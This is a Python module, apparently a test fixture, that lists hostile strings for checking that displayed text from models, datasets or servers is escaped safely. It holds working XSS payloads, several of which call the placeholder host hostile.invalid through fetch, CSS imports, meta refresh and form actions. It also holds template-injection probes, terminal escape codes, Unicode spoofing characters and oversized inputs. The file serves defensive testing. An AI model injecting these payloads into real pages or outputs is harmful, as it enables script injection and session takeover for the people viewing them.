"""Owns texts that a model, a dataset or a server could write to take over whatever shows them."""

from __future__ import annotations

# Whatever of these runs sets `window.owned`, or asks for this address.
_RUN = "window.owned=1;alert(1);fetch('http://hostile.invalid/')"

HOSTILE = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f'</SCRIPT ><img src=x onerror="{_RUN}">',
    "<!--<script>",
    "--><!-- ]]> <![CDATA[",
    f"<img src='http://hostile.invalid/x.png' onerror=\"{_RUN}\">",
    f'<svg onload="{_RUN}"><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<a href="javascript:{_RUN}">here</a> javascript:{_RUN}',
    f'<iframe srcdoc="<script>{_RUN}</script>" src=javascript:alert(1)></iframe>',
    f'<details open ontoggle="{_RUN}">',
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<base href='http://hostile.invalid/'><link rel=stylesheet href=x.css>",
    "<form action='http://hostile.invalid/'><button formaction=javascript:alert(1) autofocus>",
    "<style>@import 'http://hostile.invalid/x.css'; body{display:none}</style>",
    "</style><style>*{background:url(http://hostile.invalid/)}</style>",
    "'; background:url(http://hostile.invalid/x) ;x:'",
    f'"\' onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x=\'',
    f"{{{{7*7}}}} {{% for x in y %}} ${{7*7}} #{{7*7}} <%= 7*7 %> {{{{ self.__init__.__globals__ }}}} ${_RUN}",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b31m",
    "access \u202elevel\u202c \u2066admin\u2069 \u202dabc",
    "line\u2028separator\u2029paragraph\x85next",
    "nul \x00 bell \x07 backspace \x08 delete \x7f",
    f"data:text/html,<script>{_RUN}</script>",
    f'<object data="data:text/html,<script>{_RUN}</script>"></object><embed src=data:text/html,x>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template><xmp><script>{_RUN}</script></xmp><plaintext>",
    "\u0430dmin p\u0430ypal (Cyrillic) \u200badmin\u200b \ufeff \U000e0041\U000e0042",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "__proto__",
    "constructor",
    "$x^{y$ \\frac{1}{0} @0@ @1@ $\\unknown{",
    "[" * 2_000 + "]" * 2_000,
    "Z\u0300" + "\u0301\u0302\u0303" * 300,
    "x" * 1_000_000,
    "",
)
